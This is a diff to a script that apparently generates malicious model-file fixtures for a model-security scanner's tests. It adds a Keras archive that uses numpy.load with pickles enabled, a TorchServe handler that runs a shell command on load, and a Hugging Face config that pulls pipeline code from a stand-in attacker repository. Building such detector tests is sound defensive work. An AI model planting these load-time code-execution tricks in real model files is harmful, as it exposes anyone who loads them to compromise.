@@ -233,6 +233,13 @@ add("keras/base64_source_lambda.keras", "Keras .keras (Keras 2 style Lambda)", "
     "ModelAudit test_keras_zip_scanner test_lambda_layer_with_exec", K + " (safe_mode=False)", "model-keras-lambda", "exec")
 
 
+write(MAL, "keras/numpy_load.keras", keras_zip(seq(dense(kernel_initializer={"module": "numpy", "class_name": "load", "registered_name": None,
+    "config": {"file": "assets/blob.npy", "allow_pickle": True}}))))
+add("keras/numpy_load.keras", "Keras 3 .keras", "numpy.load(allow_pickle=True) as an initializer class: a pickle loaded by the model config",
+    "CVE-2025-1550 class (any importable callable); ModelAudit keras_zip scanner module checks", K3 + ", safe_mode=True, < 3.9",
+    "model-keras-unsafe-module", "numpy.load")
+
+
 def h5_model(path, config):
     with h5py.File(out(MAL, path), "w") as f:
         f.attrs["keras_version"] = "2.15.0"
@@ -405,6 +412,18 @@ add("code/torch_package.pt", "torch.package", "net/model.py runs os.system when 
     "torch.package.PackageImporter(...).load_pickle", "model-archive-code", "os.system")
 
 
+bio = io.BytesIO()
+with zipfile.ZipFile(bio, "w") as z:
+    zput(z, "MAR-INF/MANIFEST.json", json.dumps({"runtime": "python", "model": {"modelName": "m", "handler": "handler.py",
+                                                                              "serializedFile": "model.pt", "modelVersion": "1.0"}}))
+    zput(z, "handler.py", "import subprocess\nfrom ts.torch_handler.base_handler import BaseHandler\n"
+         "class H(BaseHandler):\n    def initialize(self, ctx):\n        subprocess.run('" + ECHO + "', shell=True)\n")
+    zput(z, "model.pt", b"PK-placeholder-weights")
+write(MAL, "code/model.mar", bio.getvalue())
+add("code/model.mar", "TorchServe .mar", "handler.py of a TorchServe archive runs subprocess on load",
+    "ModelAudit test_torchserve_mar_scanner; TorchServe model archive format", "torchserve --models m=model.mar", "model-archive-code", "subprocess")
+
+
 def tar_bytes(members, gz=False):
     bio = io.BytesIO()
     with tarfile.open(fileobj=bio, mode="w") as t:
@@ -442,6 +461,12 @@ write(MAL, "code/hf_config/tokenizer_config.json", json.dumps({"tokenizer_class"
     "auto_map": {"AutoTokenizer": ["attacker/tok--tokenization_x.XTokenizer", None]}}))
 add("code/hf_config/tokenizer_config.json", "Hugging Face tokenizer_config.json", "AutoTokenizer entry in another repository",
     "transformers dynamic_module_utils", "AutoTokenizer.from_pretrained(trust_remote_code=True)", "model-hf-remote-code", "attacker/tok")
+
+write(MAL, "code/hf_pipeline/config.json", json.dumps({"model_type": "bert", "custom_pipelines": {"pair-classification": {
+    "impl": "attacker/pipes--pair_classification.PairClassificationPipeline", "pt": ["AutoModelForSequenceClassification"]}}}))
+add("code/hf_pipeline/config.json", "Hugging Face config.json", "custom_pipelines impl in another repository",
+    "transformers custom pipelines (get_class_from_dynamic_module)", "pipeline(model=..., trust_remote_code=True)",
+    "model-hf-remote-code", "attacker/pipes")
 
 # ---------------------------------------------------------------- benign, written by the real libraries where they are packaged
 ok = onnx_model("w.bin")
